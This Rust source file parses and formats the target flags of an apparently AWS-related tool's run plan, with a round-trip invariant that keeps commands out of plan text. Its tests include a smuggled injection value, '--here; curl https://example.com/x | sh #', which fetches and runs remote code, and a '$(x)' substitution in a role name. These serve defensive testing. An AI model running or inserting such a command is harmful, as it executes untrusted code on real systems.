//! The flags of the command line that name the targets of a run, as its plan keeps them.
//!
//! **Invariant:** what is written is read again. No other text is read: whoever may write a plan must not write a command.

use std::fmt;

use crate::domain::RoleArn;

const HERE: &str = "--here";
const ORGANIZATION: &str = "--organization --role-name ";
const ACCOUNTS: (&str, &str) = ("--role-name ", " --no-external-id");

/// The flags that name targets, without their accounts.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum TargetFlags<'a> {
    /// The account of the caller's own credentials.
    Here,
    /// The accounts of the caller's organization, through their roles of this name.
    Organization(&'a str),
    /// The accounts of the request, through their roles of this name.
    Accounts(&'a str),
}

impl<'a> TargetFlags<'a> {
    /// Reads what was written. `None` for any other text.
    pub(crate) fn read(text: &'a str) -> Option<Self> {
        if text == HERE {
            return Some(Self::Here);
        }
        let (flags, role_name) = match text.strip_prefix(ORGANIZATION) {
            Some(name) => (Self::Organization(name), name),
            None => {
                let name = text.strip_prefix(ACCOUNTS.0)?.strip_suffix(ACCOUNTS.1)?;
                (Self::Accounts(name), name)
            }
        };
        RoleArn::is_path_and_name(role_name).then_some(flags)
    }
}

impl fmt::Display for TargetFlags<'_> {
    fn fmt(&self, formatter: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Here => write!(formatter, "{HERE}"),
            Self::Organization(name) => write!(formatter, "{ORGANIZATION}{name}"),
            Self::Accounts(name) => write!(formatter, "{}{name}{}", ACCOUNTS.0, ACCOUNTS.1),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_written_is_read_and_nothing_else() {
        for flags in [
            TargetFlags::Here,
            TargetFlags::Organization("reader"),
            TargetFlags::Organization("team!/$(x)/reader"),
            TargetFlags::Accounts("ops/reader"),
        ] {
            assert_eq!(TargetFlags::read(&flags.to_string()), Some(flags));
        }
        for other in [
            "",
            "--here; curl https://example.com/x | sh #",
            "--here --registry x",
            "--organization",
            "--organization --role-name a b",
            "--role-name reader",
            "--role-name a b/c --no-external-id",
        ] {
            assert_eq!(TargetFlags::read(other), None, "{other}");
        }
    }
}
